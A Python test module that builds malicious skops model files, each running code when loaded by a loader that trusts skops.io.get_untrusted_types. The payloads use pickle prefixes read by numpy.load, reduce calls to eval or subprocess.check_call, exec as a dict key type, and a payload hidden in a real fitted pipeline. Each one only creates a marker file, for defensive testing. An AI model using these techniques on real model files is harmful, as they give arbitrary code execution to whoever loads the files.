"""Hostile skops files built from small bytes: a hand-made schema.json in a zip, or a real dump's
schema.json with one node swapped. Each payload, if run, creates the file ``marker``."""

from __future__ import annotations

import io
import json
import pickle
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

PROTOCOL = 2  # what skops 0.16 writes


def node(loader: str, module: str, cls: str, **state: Any) -> dict[str, Any]:
    return {"__loader__": loader, "__module__": module, "__class__": cls, **state}


def json_node(value: Any) -> dict[str, Any]:
    return node("JsonNode", "builtins", "str", content=json.dumps(value), is_json=True)


def tuple_node(*items: dict[str, Any]) -> dict[str, Any]:
    return node("TupleNode", "builtins", "tuple", content=list(items))


def reduce_call(module: str, name: str, *args: Any) -> dict[str, Any]:
    """A ``ConstructorFromReduceNode``: skops calls ``module.name(*args)`` while loading."""
    return node(
        "ConstructorFromReduceNode", module, name, content=tuple_node(*map(json_node, args))
    )


def dict_keyed_by(key_type: dict[str, Any], key: str) -> dict[str, Any]:
    """A ``DictNode`` whose key type is called on its key while loading: ``key_type(key)``."""
    key_types = node("ListNode", "builtins", "list", content=[key_type])
    return node("DictNode", "builtins", "dict", key_types=key_types, content={key: json_node(1)})


def write_skops(file: Path, tree: dict[str, Any], *, prefix: bytes = b"") -> Path:
    """Write ``tree`` as a skops file: a zip holding schema.json, after ``prefix`` (zip readers find
    the archive from its end, so bytes in front of it are allowed and ignored)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("schema.json", json.dumps({**tree, "protocol": PROTOCOL}))
    file.write_bytes(prefix + buffer.getvalue())
    return file


def edit_schema(file: Path, edit: Callable[[dict[str, Any]], None]) -> Path:
    """Rewrite the schema.json of a real skops dump in place, keeping its array files."""
    with zipfile.ZipFile(file) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    schema = json.loads(members["schema.json"])
    edit(schema)
    members["schema.json"] = json.dumps(schema).encode()
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return file


class _Exec:
    """Pickles as a call to ``exec(code)``: what ``pickle.load`` runs."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (exec, (self.code,))


def touch_code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def numpy_load_self(file: Path, marker: Path) -> dict[str, Any]:
    """The reported attack: ``numpy.load(<this file>, None, allow_pickle=True)``, the file starting
    with a pickle (embedded bytes in front of the zip), so ``numpy.load`` unpickles it."""
    return reduce_call("numpy", "load", str(file), None, True)


def write_numpy_load_self(file: Path, marker: Path) -> Path:
    prefix = pickle.dumps(_Exec(touch_code(marker)))
    return write_skops(file, numpy_load_self(file, marker), prefix=prefix)


def _plain(tree: Callable[[Path, Path], dict[str, Any]]) -> Callable[[Path, Path], Path]:
    return lambda file, marker: write_skops(file, tree(file, marker))


def _nested_in_estimator(file: Path, marker: Path) -> Path:
    """A real scaler pipeline whose fitted ``mean_`` is replaced by the numpy.load payload."""
    import numpy as np
    import skops.io
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    model = make_pipeline(StandardScaler()).fit(np.arange(12.0).reshape(6, 2))
    skops.io.dump(model, file)

    def swap(schema: dict[str, Any]) -> None:
        steps = schema["content"]["content"]["steps"]["content"]
        scaler = steps[0]["content"][1]["content"]["content"]
        scaler["mean_"] = numpy_load_self(file, marker)

    edit_schema(file, swap)
    data = file.read_bytes()
    file.write_bytes(pickle.dumps(_Exec(touch_code(marker))) + data)
    return file


def _partial_exec(file: Path, marker: Path) -> dict[str, Any]:
    func = node("FunctionNode", "builtins", "exec")
    empty_kwds = node(
        "DictNode",
        "builtins",
        "dict",
        key_types=node("ListNode", "builtins", "list", content=[]),
        content={},
    )
    partial = node(
        "PartialNode",
        "functools",
        "partial",
        content={
            "func": func,
            "args": tuple_node(),
            "kwds": empty_kwds,
            "namespace": json_node(None),
        },
    )
    return dict_keyed_by(partial, touch_code(marker))


# name -> write(file, marker): every one of them creates ``marker`` under a loader that trusts
# whatever skops.io.get_untrusted_types reports (the test suite checks that they really do)
PAYLOADS: dict[str, Callable[[Path, Path], Path]] = {
    "numpy.load(allow_pickle=True) on embedded bytes": write_numpy_load_self,
    "numpy.load nested inside a real estimator": _nested_in_estimator,
    "reduce to builtins.eval": _plain(
        lambda file, marker: reduce_call("builtins", "eval", touch_code(marker))
    ),
    "reduce to subprocess.check_call": _plain(
        lambda file, marker: reduce_call(
            "subprocess", "check_call", [sys.executable, "-c", touch_code(marker)]
        )
    ),
    "reduce to a numpy function that opens files": _plain(
        lambda file, marker: reduce_call("numpy.lib._datasource", "_open", str(marker), "w")
    ),
    "dict key type builtins.exec": _plain(
        lambda file, marker: dict_keyed_by(node("TypeNode", "builtins", "exec"), touch_code(marker))
    ),
    "dict key type partial(exec)": _plain(_partial_exec),
}
